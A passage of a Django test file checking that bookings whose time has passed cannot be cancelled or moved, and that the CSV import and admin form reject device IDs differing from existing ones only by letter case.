    move = post(client, reverse("my-booking-reschedule", args=[booking.pk]), {"slot_id": later.pk})
    for answer in (cancel, move):
        assert answer.status_code == 409, answer.content
        assert "time has passed" in answer.json()["detail"]
    booking.refresh_from_db()
    assert (booking.status, booking.slot_id, booking.sequence) == ("booked", booking.slot_id, 0)


def test_an_import_never_adds_a_device_whose_id_differs_only_by_case(client, asset_manager):
    """p-0300 beside P-0300 would make every hand-typed ` p-0300` ambiguous at the desk."""
    make_device("P-0300", tag_id=300)
    client.force_login(asset_manager)
    text = "device_id,tag_id\np-0300,301\nQ-1,302\nq-1,303\nP-0300,300\n"
    upload(client, text.encode(), "delivery.csv")
    job = run_the_only_import()
    assert sorted(Device.objects.values_list("device_id", flat=True)) == ["P-0300", "Q-1"]
    said = " ".join(job.messages)
    assert "line 2: device_id p-0300 differs only by case from device P-0300" in said, said
    assert "line 4: device_id q-1 differs only by case from Q-1 on line 3" in said, said


def test_the_admin_never_adds_a_device_whose_id_differs_only_by_case(client, asset_manager):
    make_device("P-0300", tag_id=300)
    client.force_login(asset_manager)
    answer = client.post(
        "/admin/assets/device/add/",
        {
            **{"device_id": "p-0300", "tag_id": "301", "dev_eui": "", "firmware": "", "batch": ""},
            **{"events-TOTAL_FORMS": "0", "events-INITIAL_FORMS": "0"},
        },
    )
    assert answer.status_code == 200  # the form again, with the error
    assert b"differs only by case from device P-0300" in answer.content
    assert Device.objects.count() == 1
